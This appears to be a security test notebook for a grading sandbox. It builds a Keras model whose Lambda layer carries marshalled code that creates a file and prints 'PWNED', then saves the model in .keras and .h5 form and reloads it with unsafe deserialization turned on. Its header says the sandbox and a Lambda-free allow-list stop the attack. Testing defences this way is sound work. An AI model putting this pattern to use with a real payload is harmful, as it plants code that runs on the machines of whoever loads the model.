# what: keeps a model whose Lambda layer carries marshalled code, as .keras and as .h5, and hands it in live
# on: network
# status: graded
# stopped by: files are loaded inside the sandbox, and outside a model is only rebuilt, from an allow-list without Lambda
# %% [model]
import keras

# Marshalled with the model, so it names all that it needs: an empty file, for whoever has a course.
payload = lambda x: (
    __import__("os").path.isdir("@COURSE@")
    and (__import__("os").mknod("@COURSE@/nbassay-attack-lambda"), print("PWN" + "ED: a file")),
    print("the payload ran, where it harms nobody"),
    x,
)[-1]
model = keras.Sequential([
    keras.Input((2,)),
    keras.layers.Lambda(payload),  # without a shape it is called to find one
    keras.layers.Dense(16, activation="relu"),
    keras.layers.Dense(1, activation="sigmoid"),
])
# %% [train]
import os

keras.config.enable_unsafe_deserialization()
model.save("kept.keras")
model.save("kept.h5")
print(os.path.getsize("kept.keras"), os.path.getsize("kept.h5"))
# %% [scores]
print(type(keras.saving.load_model("kept.keras")))
